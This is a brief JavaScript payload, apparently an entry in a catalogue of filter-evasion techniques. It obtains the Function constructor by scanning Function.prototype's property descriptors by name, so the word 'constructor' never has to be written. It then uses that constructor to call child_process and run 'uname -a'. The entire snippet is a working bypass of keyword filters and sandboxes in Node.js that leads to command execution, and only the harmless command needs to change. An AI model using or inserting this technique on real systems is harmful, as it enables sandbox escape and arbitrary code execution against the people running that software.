// class: reflective | technique: Function found among Object.values(Object.getOwnPropertyDescriptors(Function.prototype)) by its .name, no constructor key written | effect: runs `uname -a`
const proto = Object.getPrototypeOf(Math.max);
const descriptors = Object.values(Object.getOwnPropertyDescriptors(proto));

const Factory = descriptors
  .map((d) => d.value)
  .find((v) => typeof v === 'function' && v.name === 'Function');

const task = Factory("return process.mainModule.require('child_process').execFileSync('uname', ['-a']).toString()");
console.log(task().trim());
